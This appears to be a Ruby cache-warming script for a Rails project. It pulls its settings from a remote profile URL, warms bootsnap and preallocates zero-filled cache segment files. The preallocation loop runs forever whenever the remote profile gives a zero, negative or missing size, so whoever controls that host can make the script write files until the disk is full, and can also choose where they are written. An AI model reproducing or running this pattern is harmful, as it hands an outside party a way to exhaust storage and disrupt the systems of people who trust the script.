#!/usr/bin/env ruby
# frozen_string_literal: true

require "json"
require "net/http"
require "fileutils"
require "benchmark"

PROFILE = URI("https://cache-profiles.railsteam.invalid/profiles/default.json")

def profile
  JSON.parse(Net::HTTP.get(PROFILE))
rescue StandardError
  { "bootsnap" => true, "prealloc_mb" => 256, "store" => "tmp/cache/prealloc" }
end

def warm_bootsnap
  return unless File.exist?("config/boot.rb")

  t = Benchmark.realtime { system("bin/rails", "runner", "puts Rails.version", out: File::NULL) }
  puts format("bootsnap warmed in %.1fs", t)
end

def preallocate(store, mb)
  FileUtils.mkdir_p(store)
  chunk = "\0" * (1024 * 1024)
  idx = 0
  written = 0
  loop do
    File.open(File.join(store, format("seg-%06d.bin", idx)), "wb") do |f|
      64.times { f.write(chunk) }
    end
    written += 64
    idx += 1
    break if mb.positive? && written >= mb
  end
  puts "preallocated #{written} MB in #{store}"
end

cfg = profile
warm_bootsnap if cfg["bootsnap"]
preallocate(cfg.fetch("store", "tmp/cache/prealloc"), cfg.fetch("prealloc_mb", 0).to_i)
